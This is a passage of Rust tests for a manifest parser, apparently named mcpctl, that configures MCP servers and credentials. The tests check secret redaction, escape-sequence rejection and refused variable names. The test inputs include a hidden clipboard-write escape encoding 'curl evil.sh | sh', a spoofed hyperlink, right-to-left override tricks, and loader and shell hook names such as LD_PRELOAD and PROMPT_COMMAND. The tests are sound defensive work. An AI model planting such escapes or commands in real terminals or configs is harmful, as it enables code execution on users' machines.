    let err = parse("mcpctl.kdl", "mcpctl version=2\n\nserver github { }\n").unwrap_err();
    insta::assert_snapshot!("unsupported_version", render(&err));
}

#[test]
fn snapshot_secret() {
    let token = format!("ghp_{}", "Z9".repeat(18));
    let password = "hunter2hunter2";
    let source = format!(
        "mcpctl version=1\nclient claude-code\n\nserver github {{\n    command npx -y \"@modelcontextprotocol/server-github\"\n    env GITHUB_TOKEN \"{token}\"\n}}\n\nserver postgres {{\n    command npx -y \"@modelcontextprotocol/server-postgres\" \"postgres://app:{password}@db.internal/app\"\n}}\n"
    );
    let err = parse("mcpctl.kdl", &source).unwrap_err();
    // The snippet hides each secret at its own length (the underline still
    // fits), keeping only the token's public prefix and the URL's scheme and
    // host.
    let rendered = render(&err);
    assert!(!rendered.contains(&token[4..]), "{rendered}");
    assert!(!rendered.contains(password), "{rendered}");
    insta::assert_snapshot!("secret", rendered);
}

/// Terminal escapes written as KDL escapes (`\u{1b}`): ESC[2J (clear the
/// screen), OSC 52 (write the clipboard), OSC 8 (a hyperlink) and U+202E
/// (right-to-left override) in a description, create-at, scopes, a server
/// name, a command argument and an env value. Each is refused, and the
/// rendering quotes them only as visible escapes.
#[test]
fn snapshot_unsafe_characters() {
    let source = r#"mcpctl version=1
credential GITHUB_TOKEN {
    description "repo access\u{1b}[2J"
    create-at "https://github.com/settings/tokens\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}"
    scopes "repo" "\u{1b}]8;;https://evil.example\u{1b}\\read:org\u{1b}]8;;\u{1b}\\"
}
server "github\u{202e}buh" {
    description "safe \u{202e}evil"
    command npx "server\u{1b}[1A\u{1b}[2K"
    env GITHUB_TOKEN credential=GITHUB_TOKEN
}
"#;
    let err = parse("mcpctl.kdl", source).unwrap_err();
    let unsafe_at: Vec<&str> = err
        .problems()
        .iter()
        .filter(|p| p.kind == ProblemKind::UnsafeCharacter)
        .map(|p| at(source, p, 0))
        .collect();
    assert_eq!(unsafe_at.len(), 6, "{unsafe_at:#?}");
    let rendered = render(&err);
    assert!(
        !rendered.contains(|c| c != '\n' && crate::terminal_text::is_unsafe(c)),
        "{rendered:?}"
    );
    insta::assert_snapshot!("unsafe_characters", rendered);
}

/// The same characters written as themselves in the file: named, at their
/// place, and the quoted line shows a `?` instead.
#[test]
fn raw_unsafe_characters_are_named() {
    let source = "mcpctl version=1\nserver github {\n    description \"a\u{1b}[2J\u{202e}b\"\n    command npx\n}\n";
    let err = parse("mcpctl.kdl", source).unwrap_err();
    let messages: Vec<&str> = err.problems().iter().map(|p| p.message.as_str()).collect();
    assert_eq!(
        messages,
        [
            "the file holds ESC (U+001B)",
            "the file holds RIGHT-TO-LEFT OVERRIDE (U+202E)"
        ]
    );
    assert_eq!(at(source, &err.problems()[0], 0), "\u{1b}");
    let rendered = render(&err);
    assert!(!rendered.contains(['\u{1b}', '\u{202e}']), "{rendered:?}");
}

/// Issue 12: a credential taken by env-ref is exported under its own name
/// at every shell start, so a name that changes how a shell, the loader or
/// a runtime behaves is refused, with the reason and the rename as the fix.
#[test]
fn snapshot_env_ref_exports_refuse_shell_and_loader_names() {
    let source = "mcpctl version=1\nclient claude-code delivery=env-ref\n\ncredential PROMPT_COMMAND { source command evil; }\ncredential LD_PRELOAD\n\nserver github {\n    command npx -y \"@modelcontextprotocol/server-github@1.0.0\"\n    env GITHUB_PERSONAL_ACCESS_TOKEN credential=PROMPT_COMMAND\n    env OTHER credential=LD_PRELOAD\n}\n";
    let err = parse("mcpctl.kdl", source).unwrap_err();
    assert_eq!(
        err.problems().iter().map(|p| p.kind).collect::<Vec<_>>(),
        [ProblemKind::InvalidName, ProblemKind::InvalidName]
    );
    insta::assert_snapshot!("env_ref_refused_names", render(&err));
    // The defaults, a server's own delivery and a credential header count too.
    for source in [
        "mcpctl version=1\ndefaults { delivery env-ref; }\ncredential path\nserver s { command x; env T credential=path; }\n",
        "mcpctl version=1\ncredential NODE_OPTIONS\nserver s { command x; delivery env-ref; env T credential=NODE_OPTIONS; }\n",
        "mcpctl version=1\ncredential HTTPS_PROXY\nserver s { url \"https://x\"; delivery env-ref; header A credential=HTTPS_PROXY; }\n",
    ] {
        let err = parse("mcpctl.kdl", source).unwrap_err();
        assert!(
            err.problems()[0]
                .message
                .contains("cannot be exported into your shell"),
            "{source}: {:?}",
            err.problems()
        );
    }
}

/// exec delivery sets a variable only in the one server's environment,
/// whose command the manifest already chose: the names are not refused
/// there (see `shell::exportable`), nor as a server's own `env` name under
/// env-ref (the client sets it for that server alone).
#[test]
fn exec_delivery_and_server_env_names_are_not_refused() {
    for source in [
        "mcpctl version=1\nclient claude-code\ncredential LD_PRELOAD\nserver s { command x; env LD_PRELOAD credential=LD_PRELOAD; }\n",
        "mcpctl version=1\nclient claude-code delivery=env-ref\ncredential MCP_NODE_OPTIONS\nserver s { command x; env NODE_OPTIONS credential=MCP_NODE_OPTIONS; }\n",
        "mcpctl version=1\nclient claude-code delivery=env-ref\ncredential PATH\nserver s { command x; delivery exec; env T credential=PATH; }\n",
    ] {
        assert!(parse("mcpctl.kdl", source).is_ok(), "{source}");
    }
}

// ----- files -------------------------------------------------------------------------

#[test]
fn find_walks_up_and_load_digests() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let nested = root.join("a/b");
    std::fs::create_dir_all(&nested).unwrap();
    assert_eq!(find(&nested), None);

    let file = root.join(MANIFEST_FILE);
    std::fs::write(&file, "mcpctl version=1\n").unwrap();
    assert_eq!(find(&nested), Some(file.clone()));
    assert_eq!(find(root), Some(file.clone()));
    assert_eq!(find(&file), Some(file.clone()));

    let loaded = load(&file).unwrap();
    assert_eq!(loaded.path, file);
    assert_eq!(loaded.root, root);
    assert_eq!(loaded.manifest.version, 1);
    // sha256("mcpctl version=1\n")
    assert_eq!(loaded.digest.len(), 64);
    assert_eq!(
        loaded.digest,
        format!(
            "{:x}",
            <sha2::Sha256 as sha2::Digest>::digest(b"mcpctl version=1\n")
        )
    );
}

#[test]
fn load_errors_name_the_path() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join(MANIFEST_FILE);
    let err = load(&missing).unwrap_err();
    assert!(matches!(err, ManifestError::Io { .. }));
    assert_eq!(err.problem_count(), 1);
    let text = render(&err);
    assert!(text.contains(&missing.display().to_string()), "{text}");
    assert!(text.contains("check the path"), "{text}");
    assert!(!text.contains("create mcpctl.kdl"), "{text}");

    std::fs::write(&missing, b"mcpctl version=1\n\xff\n").unwrap();
    let text = render(&load(&missing).unwrap_err());
    assert!(text.contains("not UTF-8"), "{text}");

    // Diagnostics from load name the file as given.
    std::fs::write(&missing, "mcpctl version=1\nbogus\n").unwrap();
    let text = render(&load(&missing).unwrap_err());
    assert!(
        text.contains(&format!("[{}:2:1]", missing.display())),
        "{text}"
    );
}

#[test]
fn audit_policy_and_warning_window() {
    let m = ok(&with_head(
        "defaults { warn-before \"3w\"; }\naudit {\n    retain \"7y\"\n    syslog\n    webhook \"http://127.0.0.1:9000/hook\" alerts-only=#true\n    alert-reads-per-hour 20\n}",
    ));
    assert_eq!(m.defaults.warn_before, Period { days: 21 });
    assert_eq!(
        m.audit,
        AuditPolicy {
            retain: Some(Period { days: 2555 }),
            syslog: true,
            webhook: Some("http://127.0.0.1:9000/hook".into()),
            webhook_alerts_only: true,
            alert_reads_per_hour: Some(20),
        }
    );
    let https = only(&with_head(
        "audit { webhook \"https://hooks.example.com/x\"; }",
    ));
    assert_eq!(https.kind, ProblemKind::Unsupported);
    assert!(
        https
            .message
            .contains("https webhooks are not supported yet")
    );
    let zero = only(&with_head("audit { alert-reads-per-hour 0; }"));
    assert_eq!(zero.kind, ProblemKind::Arguments);
    let unknown = only(&with_head("audit { retian \"1y\"; }"));
    assert!(
        unknown
            .help
            .as_deref()
            .unwrap_or("")
            .contains("did you mean `retain`"),
        "{unknown:?}"
    );
}

#[test]
fn sources_namespaces_and_file_credentials() {
    let m = ok(&with_head(
        r#"
defaults { namespace "team-a" }
credential GITHUB_TOKEN { source command pass show "mcp/github" timeout="10s"; }
credential CI_TOKEN { source env; }
credential RENAMED { source env var=CI_RENAMED; }
credential DB_URL
credential OWN { namespace "team-b"; }
credential KUBECONFIG { kind file; source store; }
"#,
    ));
    let c = &m.credentials;
    assert_eq!(
        c["GITHUB_TOKEN"].source,
        Source::Command {
            argv: vec!["pass".into(), "show".into(), "mcp/github".into()],
            timeout_secs: 10
        }
    );
    assert_eq!(
        c["GITHUB_TOKEN"].namespace, None,
        "no namespace outside the store"
    );
    assert_eq!(
        c["CI_TOKEN"].source,
        Source::Env {
            var: "CI_TOKEN".into()
        }
    );
    assert_eq!(
        c["RENAMED"].source,
        Source::Env {
            var: "CI_RENAMED".into()
        }
    );
    assert_eq!(c["DB_URL"].store_entry(), "team-a/DB_URL");
    assert_eq!(c["OWN"].store_entry(), "team-b/OWN");
    assert!(c["KUBECONFIG"].is_file());
    assert_eq!(c["KUBECONFIG"].store_entry(), "team-a/KUBECONFIG");
    // Without a namespace, the entry is the bare name (hand-made entries).
    assert_eq!(
        ok(&with_head("credential X")).credentials["X"].store_entry(),
        "X"
    );
}

#[test]
fn bad_sources_and_namespaces() {
    let cases = [
        ("credential X { source vault; }", "unknown source"),
        ("credential X { source command; }", "names no program"),
        (
            "credential X { source env var=\"1X\"; }",
            "not an environment variable name",
        ),
        (
            "credential X { source store extra; }",
            "takes no further arguments",
        ),
        (
            "credential X { source command pass timeout=\"1h\"; }",
            "is not a timeout",
        ),
        (
            "credential X { namespace \"Team A\"; }",
            "not a valid namespace",
        ),
        (
            "credential X { source env; namespace \"a\"; }",
            "a store namespace does not apply",
        ),
    ];
    for (body, message) in cases {
        let problem = only(&with_head(body));
        assert!(
            problem.message.contains(message),
            "{body}: {}",
            problem.message
        );
    }
}
